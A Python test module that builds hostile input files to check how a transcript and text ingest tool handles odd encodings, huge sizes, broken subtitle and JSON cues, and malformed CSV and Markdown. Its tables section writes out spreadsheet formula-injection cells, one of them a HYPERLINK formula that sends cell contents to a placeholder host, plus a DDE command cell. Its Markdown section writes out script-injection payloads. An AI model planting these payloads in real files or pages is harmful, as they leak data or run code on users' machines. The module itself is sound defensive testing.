"""Texts and transcripts: encodings, broken structure, absurd times and sizes."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator
from pathlib import Path

from quartier_nlp.errors import QuarantineReason as Why
from tests.hostile.cases import TALK, WORDS, Case, Ground, Read, content, refused

_CRLF = TALK.replace("\n", "\r\n")
_BLOCK = 10_000


def stream(path: Path, head: str, line: str, count: int, tail: str = "") -> None:
    """Write a line many times without holding them all; ``%d`` in it counts."""
    with path.open("w", encoding="utf-8") as file:
        file.write(head)
        for start in range(0, count, _BLOCK):
            file.write("".join(line % n for n in range(start, min(count, start + _BLOCK))))
        file.write(tail)


def _lines(path: Path, ground: Ground) -> None:
    stream(path, "", "a%d\n", ground.far_too_many)


def _long_line(path: Path, ground: Ground) -> None:
    path.write_text("Der Laden trägt sich gut und " * 40_000)


def _too_long(path: Path, ground: Ground) -> None:
    path.write_text("abcdefghi " * (ground.limits.characters // 10 + 1))


def _no_space(path: Path, ground: Ground) -> None:
    path.write_text("I: Wer zahlt?\nB1: " + "a" * 1_000_000 + "\nI: Gut.\nB1: Ja.\n")


def _sparse(path: Path, ground: Ground) -> None:
    with path.open("wb") as file:
        file.write(TALK.encode())
        file.truncate(ground.limits.file_mb * 1_000_000 + 1)


def _cues(path: Path, ground: Ground) -> None:
    stream(path, "WEBVTT\n\n", "00:01.000 --> 00:02.000\n%d\n\n", 3 * ground.limits.cues)


def _srt_cues(path: Path, ground: Ground) -> None:
    stream(path, "", "00:01,000 --> 00:02,000\n%d\n\n", 3 * ground.limits.cues)


def _one_cue(path: Path, ground: Ground) -> None:
    stream(path, "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n", "Der Laden %d\n", 4 * ground.limits.cues)


def _json_cues(path: Path, ground: Ground) -> None:
    stream(path, '{"segments":[{"text":"a"}', ',{"text":"%d"}', ground.far_too_many, "]}")


def _json_talk(**extra: object) -> str:
    items = [{"text": line.split(": ")[1], "speaker": line.split(":")[0]} for line in TALK.splitlines()]
    return json.dumps({"segments": items, **extra})


def _vtt(*times: str) -> bytes:
    words = [line.split(": ")[1] for line in TALK.splitlines()]
    cues = "".join(f"{time}\n{word}\n\n" for time, word in zip(times, words, strict=False))
    return f"WEBVTT\n\n{cues}".encode()


_HOUR = "00:00:01.000 --> 00:00:02.000"
_NUMBERS = json.dumps(
    {
        "segments": [
            {"start": 10**400, "end": 1e308, "text": "Wer zahlt?"},
            {"start": -5, "end": "x", "text": "Ich."},
            {"start": True, "end": [1], "text": "Du."},
        ]
    }
)


def encodings() -> Iterator[Case]:
    """Texts in encodings that people have, and in none."""
    good: dict[str, bytes] = {
        "utf16-le-mark.txt": b"\xff\xfe" + TALK.encode("utf-16-le"),
        "utf16-be-mark.txt": b"\xfe\xff" + TALK.encode("utf-16-be"),
        "utf16-le-bare.txt": TALK.encode("utf-16-le"),
        "utf16-be-bare.txt": TALK.encode("utf-16-be"),
        "utf32-mark.txt": b"\xff\xfe\0\0" + TALK.encode("utf-32-le"),
        "utf8-mark.txt": b"\xef\xbb\xbf" + TALK.encode(),
        "windows.txt": _CRLF.encode("cp1252"),
        "old-mac.txt": TALK.replace("\n", "\r").encode(),
        "apart.txt": unicodedata.normalize("NFD", TALK).encode(),
        "soft-hyphens.txt": TALK.replace("zahlt", "zah\u00adlt\u200b").replace("Stadt", "\u2060Stadt").encode(),
        "bidi.txt": TALK.replace("Das weiß", "\u202eDas\u202c \u2066weiß\u2069").encode(),
        "tags.txt": TALK.replace("keiner", "kei\U000e0041\U000e0042ner").encode(),
    }
    for name, data in good.items():
        yield Case(name, content(data), Read(WORDS))
    why = Why.ENCODING
    yield Case("nul-inside.txt", content(TALK.encode() + b"\0\0\0" + TALK.encode()), refused(why, message="NUL"))
    yield Case("all-bytes.txt", content(bytes(range(1, 256)) * 40), refused(why, message="byte 0x81 at 128"))
    yield Case(
        "broken-utf8.txt", content(TALK.encode() + b"\xc3\x28 \xf0\x28\x8c\x28 \x81"), refused(why, message="0x81")
    )
    yield Case("odd-utf16.txt", content(b"\xff\xfe" + TALK.encode("utf-16-le")[:-1]), refused(why, message="UTF-16"))
    yield Case("controls.txt", content(b"\x01\x02\xfc" * 300), refused(why, message="control characters"))
    yield Case("surrogates.txt", content(b"\xed\xa0\x80" * 50 + TALK.encode()), Read("Wer zahlt den Strom"))
    yield Case("nul-bytes.txt", content(b"\0" * 5000), refused(Why.EMPTY, message="empty"))
    yield Case("invisible.txt", content("\u200b\u202e\u00ad\n" * 50), refused(Why.EMPTY, message="no text"))
    yield Case("combining.txt", content("Wer zahlt?" + "\u0301" * 100_000 + "\n"), Read("Wer zahlt"))


def sizes() -> Iterator[Case]:
    """Texts without end."""
    size = refused(Why.SIZE, message="more than")
    yield Case("five-million-lines.txt", _lines, size)
    yield Case("five-million-lines.md", lambda path, g: stream(path, "# A\n\n", "b%d\n\n", g.far_too_many), size)
    yield Case("long-line.txt", _long_line, Read("Der Laden trägt sich gut und Der Laden"))
    yield Case("too-long-line.txt", _too_long, size)
    yield Case("one-word.txt", _no_space, Read("Wer zahlt?"))
    yield Case("sparse.txt", _sparse, refused(Why.SIZE, message="ingest.limits.file_mb"))
    yield Case("million-cues.vtt", _cues, refused(Why.SIZE, message="more than"))
    yield Case("million-cues.srt", _srt_cues, refused(Why.SIZE, message="more than"))
    yield Case("million-cues.json", _json_cues, refused(Why.SIZE, message="more than"))
    yield Case("one-cue.vtt", _one_cue, Read("Der Laden 0 Der Laden 1"))
    rows = refused(Why.SIZE, message="more than")
    yield Case("million-rows.csv", lambda path, g: stream(path, "Idee;Ort\n", "a%d;b\n", g.far_too_many), rows)


def cues() -> Iterator[Case]:
    """Transcripts that are broken, or lie about time."""
    first = "Wer zahlt den Strom im Waschhaus?"
    yield Case("backwards.vtt", content(_vtt("00:00:09.000 --> 00:00:01.000", _HOUR)), Read(first))
    yield Case("negative.vtt", content(_vtt("-00:00:05.000 --> -00:00:01.000")), refused(Why.EMPTY, message="no cue"))
    yield Case("partly-negative.vtt", content(_vtt("-00:00:05.000 --> 00:00:06.000", _HOUR)), Read("Das weiß keiner."))
    yield Case("overflow.vtt", content(_vtt("9999:59:59.999 --> 9999:59:59.999")), Read(first))
    yield Case("eternity.vtt", content(_vtt("9" * 5000 + ":00:00.000 --> 00:00:01.000")), refused(Why.EMPTY))
    yield Case("cueless.vtt", content("WEBVTT\n\nNOTE leer\n"), refused(Why.EMPTY, message="no cue found"))
    yield Case("markup.vtt", content(_vtt(_HOUR).replace(b"Wer", b"<v <b><i></v>Wer" + b"<" * 3000)), Read("zahlt"))
    yield Case(
        "stamps.txt", content("I: Wer? #99:99:99-9#\nB1: Ich. #00:00:01-0#\nI: So. #00:00:00-1#\n"), Read("Wer?")
    )
    yield Case("numbers.json", content(_NUMBERS), Read("Wer zahlt? Ich. Du."))
    yield Case("infinity.json", content('{"segments":[{"start":NaN,"end":Infinity,"text":"Wer zahlt?"}]}'), Read("Wer"))
    yield Case("digits.json", content('{"segments":[{"start":' + "9" * 5000 + ',"text":"Wer?"}]}'), refused(Why.BROKEN))
    yield Case("nul.json", content(_json_talk().replace("Das", r"\u0000D\ud800as")), Read("Wer zahlt den Strom"))
    yield Case("deep.json", content("[" * 100_000 + "]" * 100_000), refused(Why.SIZE, message="ingest.limits.depth"))
    yield Case("deep-objects.json", content('{"a":' * 500 + "[]" + "}" * 500), refused(Why.SIZE, message="200 levels"))
    yield Case("quotes.json", content('{"text": "' + '\\"' * 400_000), refused(Why.BROKEN, message="broken JSON"))
    yield Case("cut.json", content('{"segments": [{"text": "Wer za'), refused(Why.BROKEN, message="line 1, column 24"))
    yield Case("other.json", content('{"name": "package"}'), refused(Why.FORMAT, message="JSON without a transcript"))
    yield Case(
        "types.json", content('{"segments": [1, null, "x"]}'), refused(Why.FORMAT, message="without a transcript")
    )
    odd = [{"text": ["x"]}, {"text": {"a": 1}}, {"text": 7}, {"speaker": {"name": [1]}, "text": "Wer zahlt?"}]
    yield Case("odd-types.json", content(json.dumps({"segments": odd})), Read("Wer zahlt?"))


def tables() -> Iterator[Case]:
    """Tables for spreadsheets to fall for."""
    formula = '=HYPERLINK("http://x.invalid/?"&A1;"Klick")'
    yield Case(
        "formula.csv", content(f'Idee;Ort\n"{formula.replace(chr(34), chr(34) * 2)}";Hof am Markt\n'), Read(formula)
    )
    yield Case("command.csv", content("Idee;Ort\n@SUM(1+9)*cmd|' /C calc'!A0;Hof am Markt\n"), Read("@SUM(1+9)*cmd"))
    yield Case("open-quote.csv", content('Idee;Ort\n"Beete statt Asphalt;Hof\n' * 3), Read("Beete statt Asphalt"))
    yield Case(
        "huge-cell.csv", content("Idee;Ort\n" + "a" * 1_500_000 + ";Hof\n"), refused(Why.BROKEN, message="field")
    )
    yield Case("wide.csv", content("Idee" + ";" * 200_000 + "\nBeete statt Asphalt;x\n"), Read("Beete statt Asphalt"))


def markdown() -> Iterator[Case]:
    """Markdown that parsers choke on."""
    yield Case("brackets.md", content("# Hof\n\n" + "[" * 50_000 + "a" + "](b)" * 50_000), Read("Hof"))
    yield Case("quotes.md", content("# Hof\n\n" + ">" * 20_000 + " Wer zahlt?\n"), Read("Hof"))
    yield Case("stars.md", content("# Hof\n\n" + "*a **b " * 20_000 + "\n"), Read("Hof"))
    yield Case(
        "front.md", content("---\ntitle: [[[[{{\ndate: 9999-99-99\n---\n\n# Hof\n\nWer zahlt?\n"), Read("Wer zahlt?")
    )
    yield Case(
        "html.md", content("# Hof\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\nWer?\n"), Read("Wer?")
    )


def cases() -> Iterator[Case]:
    """Return all of them."""
    for group in (encodings, sizes, cues, tables, markdown):
        yield from group()
